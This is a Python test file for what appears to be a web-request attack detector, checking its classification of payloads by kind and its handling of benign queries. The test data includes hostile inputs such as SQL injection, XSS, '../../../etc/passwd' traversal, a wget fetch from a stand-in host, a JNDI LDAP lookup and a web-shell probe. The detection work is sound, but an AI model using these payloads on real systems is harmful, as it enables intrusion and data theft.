from __future__ import annotations

import re
import time

import numpy as np
import polars as pl
import pytest

from vedette.features import web_facts as f
from vedette.features.pattern import ascii_only
from vedette.features.web_decode import decode
from vedette.features.web_request import ASKED, read
from vedette.learning.datasets.web_attack_grammars import ATTACKS
from vedette.learning.datasets.web_benign_grammars import BENIGN
from vedette.learning.datasets.web_items import made_by

KIND = {
    "\x1c/a\x1eq\x1f1' or '1'='1": f.SQL,
    "\x1c/a\x1eq\x1f-1 union all select null,version()": f.SQL,
    "\x1c/a\x1eq\x1f1;waitfor delay '0:0:5'--": f.SQL,
    "\x1c/a\x1euser[$ne]\x1fx": f.SQL,
    "\x1c/a\x1eq\x1f<script>alert(1)</script>": f.SCRIPT,
    '\x1c/a\x1eq\x1f" onmouseover="alert(1)': f.SCRIPT,
    "\x1c/a\x1eq\x1fjavascript:alert(1)": f.SCRIPT,
    "\x1c/a\x1eq\x1f../../../etc/passwd": f.FILES,
    "\x1c/a\x1eq\x1fphp://filter/resource=index.php": f.FILES,
    "\x1c/a\x1eq\x1f;cat /etc/hosts": f.COMMAND,
    "\x1c/a\x1eq\x1f$(wget http://h.example/x.sh)": f.COMMAND,
    "\x1c/a\x1d() { :;}; /bin/id": f.COMMAND,
    "\x1c/a\x1eq\x1f{{7*7}}": f.TEMPLATE,
    "\x1c/a\x1eq\x1f${t(java.lang.runtime).getruntime()}": f.TEMPLATE,
    "\x1c/a\x1d${jndi:ldap://h.example/a}": f.LOOKUP,
    '\x1c/a\x1eq\x1f<!doctype a [<!entity b system "file:///c">]>': f.MARKUP,
    "\x1c/a\x1eq\x1fx\nset-cookie: a=b": f.HEADER,
    "\x1c/.git/config": f.PROBE,
    "\x1c/\x1dmozilla/5.00 (nikto/2.5.0)": f.PROBE,
    "\x1c/uploads/c99.php\x1ecmd\x1fwhoami": f.SHELL,
}
ORDINARY = (
    "\x1c/search\x1eq\x1fselect a gift from our union shop",
    "\x1c/search\x1eq\x1fo'neil",
    "\x1c/search\x1eq\x1frock'n'roll & more",
    "\x1c/search\x1eq\x1fcôte d'ivoire",
    "\x1c/login\x1enext\x1fhttps://www.example.com/a?b=c",
    "\x1c/wiki/l'aquila",
    '\x1c/api\x1ebody\x1f{"a": [1, 2], "b": "c"}',
    "\x1c/a\x1eid\x1f2024-05-06t10:00:00+02:00",
    "\x1c/css\x1efamily\x1fopen sans:400,700|roboto",
)


def test_each_attack_is_called_by_its_name() -> None:
    facts = f.facts_of(pl.Series(list(KIND)))
    assert dict(zip(KIND, f.kinds_of(facts), strict=True)) == KIND


def test_of_two_kinds_alike_the_graver_is_named_and_nothing_is_named_so() -> None:
    place = {fact.name: i for i, fact in enumerate(f.FACTS)}
    lookup, shell = place["lookup"], place["known_shell"]
    assert f.FACTS[lookup].strength > f.FACTS[shell].strength
    alike = 1 << place["sql_union"] | 1 << shell
    bits = pl.Series([0, alike, 1 << shell | 1 << lookup], dtype=pl.UInt64)
    assert f.kinds_of(bits).to_list() == [f.OTHER, f.SHELL, f.LOOKUP]


def test_strengths_add_up() -> None:
    bits = np.array([0, 1, 3, 1 << len(f.FACTS) - 1], np.uint64)
    first, second, last = f.FACTS[0].strength, f.FACTS[1].strength, f.FACTS[-1].strength
    assert f.strengths(bits).tolist() == [0, first, first + second, last]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_requests_give_nothing_away(text: str) -> None:
    bits = f.facts_of(pl.Series([text])).item()
    held = [fact for i, fact in enumerate(f.FACTS) if bits >> i & 1]
    assert sum(fact.strength for fact in held) <= 1, held


def test_the_table_is_sound() -> None:
    assert len(f.FACTS) <= 64, "a fact is a bit of a UInt64"
    assert len({fact.name for fact in f.FACTS}) == len(f.FACTS)
    assert set(f.PRECEDENCE) == set(f.KINDS)
    for fact in f.FACTS:
        re.compile(fact.pattern, re.ASCII)
        assert fact.strength > 0
        assert not fact.said.endswith(".")


def test_a_fact_that_needs_a_sign_has_one_where_it_is_found() -> None:
    texts = pl.Series(list(KIND))
    with_all = [
        sum(1 << i for i, fact in enumerate(f.FACTS) if re.search(fact.pattern, t, re.ASCII)) for t in texts.to_list()
    ]
    assert f.facts_of(texts).to_list() == with_all, "Python and Rust, with and without the short cut, say the same"


def test_patterns_tried_as_one_say_what_each_says_by_itself() -> None:
    made = pl.concat([made_by(grammars, 40, 3, "made") for grammars in (ATTACKS, BENIGN)])
    texts = read(made.select(pl.struct(ASKED)).to_series()).struct.field("text")
    signed = texts.str.contains(f.SIGNS)
    alone = pl.Series([0] * len(texts), dtype=pl.UInt64)
    for place, fact in enumerate(f.FACTS):
        held = texts.str.contains(ascii_only(fact.pattern)) & (signed | (not fact.sign))
        alone += held.cast(pl.UInt64) * (1 << place)
    assert f.facts_of(texts).to_list() == alone.to_list()
    assert (alone > 0).any()
    assert (alone == 0).any()


@pytest.mark.parametrize(
    "text",
    ["'" * 50_000, "a' or " * 5_000, "<a " * 10_000, "../" * 10_000, "${" * 10_000, ";a|" * 10_000, "\x1fa" * 10_000],
)
def test_time_is_bounded(text: str) -> None:
    began = time.process_time()
    f.facts_of(decode(pl.Series([text]))["text"])
    assert time.process_time() - began < 4
